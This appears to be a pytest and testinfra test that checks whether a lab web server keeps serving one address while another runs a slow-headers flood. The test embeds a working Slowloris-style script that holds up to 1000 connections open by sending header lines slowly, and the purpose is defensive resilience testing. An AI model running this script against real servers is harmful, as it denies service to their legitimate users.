"""A limited attack from one address of the lab, and whether another address still gets the page meanwhile."""

from __future__ import annotations

import json
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest
from testinfra.host import Host

Expect = Callable[[str], dict[str, Any]]
Record = Callable[[object], None]
CONNECTIONS = 1000
SECONDS = 10
PROBES = 20
# Opens closed connections again, as a real attacker does; never more than CONNECTIONS at a time; ends by itself.
SLOW_HEADERS = """
import asyncio, json, sys, time
address, connections, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
end, now, most, opened = time.monotonic() + seconds, 0, 0, 0

async def hold():
    global now, most, opened
    while (left := end - time.monotonic()) > 0:
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(address, 80), left)
        except (OSError, asyncio.TimeoutError):
            continue
        now, opened = now + 1, opened + 1
        most = max(most, now)
        try:
            writer.write(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n")
            while (left := end - time.monotonic()) > 0 and not reader.at_eof():
                writer.write(b"X-Slow: 1\\r\\n")
                await writer.drain()
                await asyncio.sleep(min(1, left))  # pace: what makes it slow
        except OSError:
            pass
        now -= 1
        writer.transport.abort()

async def attack():
    await asyncio.gather(*(hold() for _ in range(connections)))
    print(json.dumps({"most": most, "opened": opened}))

asyncio.run(attack())
"""


@pytest.mark.clause("RED-06")
def test_slow_headers_leave_the_page_to_others(
    untrusted: Host, trusted: Host, variables: dict[str, Any], url: str, record_evidence: Record
) -> None:
    """Mil conexiones lentas desde una dirección no le quitan la página a otra: el núcleo limita cuántas sostiene."""
    address = variables["difusor_public_address"]
    probe = "curl --silent --insecure --max-time 5 --output /dev/null --write-out '%%{http_code} %%{time_total}\\n'"
    target = f"{variables['difusor_fqdn']}:443:{address}"
    with ThreadPoolExecutor() as pool:
        attack = pool.submit(
            untrusted.check_output, "python3 -c %s %s %s %s", SLOW_HEADERS, address, str(CONNECTIONS), str(SECONDS)
        )
        repeat = (
            f"for _ in $(seq {PROBES}); do {probe} --resolve %s %s; sleep 0.4; done"  # pace: spread over the attack
        )
        answers = [line.split() for line in trusted.check_output(repeat, target, url).splitlines()]
        held = json.loads(attack.result())
    slowest = max(float(seconds) for _, seconds in answers)
    statuses = sorted({status for status, _ in answers})
    record_evidence(
        f"{CONNECTIONS} intentadas a la vez, {held['most']} sostenidas; otra dirección recibió "
        f"{len(answers)} respuestas ({', '.join(statuses)}), la más lenta en {slowest:.2f} s"
    )
    assert held["most"] > 0, "el ataque no ocurrió"
    assert held["most"] < CONNECTIONS, "una sola dirección sostuvo todas sus conexiones"
    assert statuses in (["200"], ["503"]), f"la otra dirección recibió {statuses}"
